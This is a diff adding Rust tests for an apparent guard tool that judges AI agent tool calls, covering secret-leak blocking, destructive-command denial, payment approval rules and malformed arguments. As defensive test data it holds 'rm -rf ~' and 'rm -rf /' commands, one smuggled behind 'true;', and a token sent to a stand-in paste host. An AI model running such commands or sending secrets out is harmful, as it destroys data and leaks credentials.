@@ -1,0 +1,103 @@
+//! Calls of tools are judged as commands are.
+
+use std::fs;
+
+use super::SECRET_RULE;
+use crate::support::{Ended, Install, github_token};
+
+fn check(install: &Install, tool: &str, arguments: &serde_json::Value) -> Ended {
+    let arguments = arguments.to_string();
+    install.datafog(["check", "--json", "--tool", tool, "--args", &arguments]).run()
+}
+
+fn decided(install: &Install, tool: &str, arguments: &serde_json::Value) -> (String, String) {
+    let json = check(install, tool, arguments).json();
+    let text = |key: &str| json[key].as_str().unwrap_or_default().to_owned();
+    (text("decision"), text("rule"))
+}
+
+#[test]
+fn a_secret_in_a_tool_call_is_stopped_where_it_would_leave() {
+    let install = Install::new(&[]);
+    let token = github_token(41);
+    let call = |url: &str| serde_json::json!({ "url": url, "headers": [{ "x": token }] });
+    let stopped = decided(&install, "WebFetch", &call("https://paste.example/"));
+    assert_eq!(stopped, ("deny".to_owned(), SECRET_RULE.to_owned()));
+    let home = decided(&install, "WebFetch", &call("https://api.github.com/user"));
+    assert_eq!(home.0, "allow");
+    // A tool that nobody knows may send it anywhere.
+    let stranger = decided(&install, "frobnicate", &serde_json::json!({ "a": { "b": token } }));
+    assert_eq!(stranger.1, SECRET_RULE);
+    let local = decided(&install, "Read", &serde_json::json!({ "file_path": "notes.txt" }));
+    assert_eq!(local.0, "allow");
+    assert_eq!(install.leak_of(&token), None);
+}
+
+#[test]
+fn a_command_in_a_tool_call_is_read_as_the_command_it_is() {
+    let install = Install::new(&[]);
+    for (command, decision, rule) in [
+        ("git status", "allow", ""),
+        ("rm -rf ~", "deny", "no-root-removal"),
+        ("env rm -rf /", "deny", "no-root-removal"),
+        ("rm -rf \"$X\"", "deny", "unscannable"),
+        ("true; rm -rf /", "deny", "unscannable"),
+    ] {
+        let answer = decided(&install, "Bash", &serde_json::json!({ "command": command }));
+        assert_eq!(answer, (decision.to_owned(), rule.to_owned()), "{command}");
+    }
+}
+
+#[test]
+fn rules_about_tools_hold_with_their_examples() {
+    let install = Install::new(&[]);
+    let policy = r#"
+[policy]
+id = "tools"
+version = "1"
+[[rule]]
+id = "payments"
+effect = "require_approval"
+reason = "large payments are looked at by a person"
+match = [
+  { tool = "pay", args = { amount = 250 } },
+  { tool = "pay", args = { amount = "250" } },
+  { tool = "pay" },
+]
+not_match = [{ tool = "pay", args = { amount = 5 } }, "git status"]
+[rule.when]
+category = "payment"
+argument = { path = "amount", gt = 100 }
+"#;
+    fs::write(install.root().join("policy.toml"), policy).unwrap();
+    install.datafog(["policy", "lint"]).run().succeeds();
+    let call = |amount: u32| serde_json::json!({ "amount": amount, "currency": "EUR" });
+    // Neither tool says what it does; the arguments do.
+    assert_eq!(decided(&install, "harmless", &call(101)).1, "payments");
+    assert_eq!(decided(&install, "harmless", &call(100)).0, "allow");
+    let receipts = install.receipts();
+    let last = receipts.last().unwrap();
+    assert_eq!(
+        (last["action_type"].as_str(), last["tool"].as_str()),
+        (Some("tool.call"), Some("harmless"))
+    );
+    let typo = policy.replace("path =", "pth =");
+    fs::write(install.root().join("policy.toml"), typo).unwrap();
+    let said = install.datafog(["policy", "lint"]).run().ends_with(4);
+    assert!(said.stdout().contains("did you mean `path`?"), "{}", said.stdout());
+}
+
+#[test]
+fn arguments_that_two_readers_could_read_two_ways_are_refused() {
+    let install = Install::new(&[]);
+    for (arguments, said) in [
+        (r#"{"amount":1,"amount":1000}"#, "named twice"),
+        ("[1]", "table"),
+        ("{", "cannot be read"),
+    ] {
+        let ended =
+            install.datafog(["check", "--tool", "pay", "--args", arguments]).run().ends_with(2);
+        assert!(ended.stderr().contains(said), "{}", ended.stderr());
+    }
+    install.datafog(["check", "--tool", "pay", "--", "git", "status"]).run().ends_with(2);
+}
